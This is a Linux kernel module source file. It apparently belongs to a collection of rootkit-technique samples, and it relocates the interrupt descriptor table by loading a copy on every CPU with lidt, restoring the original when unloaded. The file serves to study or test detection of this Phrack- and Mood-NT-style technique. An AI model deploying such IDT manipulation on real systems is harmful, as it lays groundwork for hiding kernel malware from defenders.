// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Technique: the CPUs get another interrupt descriptor table (lidt), the kernel's own stays as it was. Who: described in
 * "Handling the Interrupt Descriptor Table", Phrack 59; used by Mood-NT's kind.
 * Changes: IDTR of every CPU, to a copy of the table. Undone when it is unloaded.
 */
#include "attack.h"

#include <linux/smp.h>

struct __packed table {
	u16 limit;
	unsigned long base;
};
static struct table original, moved;

static void load(void *table)
{
	asm volatile("lidt %0" : : "m"(*(struct table *)table));
}

static int __init start(void)
{
	void *copy = (void *)get_zeroed_page(GFP_KERNEL);

	if (!copy)
		return -ENOMEM;
	asm volatile("sidt %0" : "=m"(original));
	memcpy(copy, (void *)original.base, original.limit + 1);
	moved.limit = original.limit;
	moved.base = (unsigned long)copy;
	on_each_cpu(load, &moved, 1);
	return 0;
}

static void __exit stop(void)
{
	on_each_cpu(load, &original, 1);
	free_page(moved.base);
}

ATTACK(start, stop);
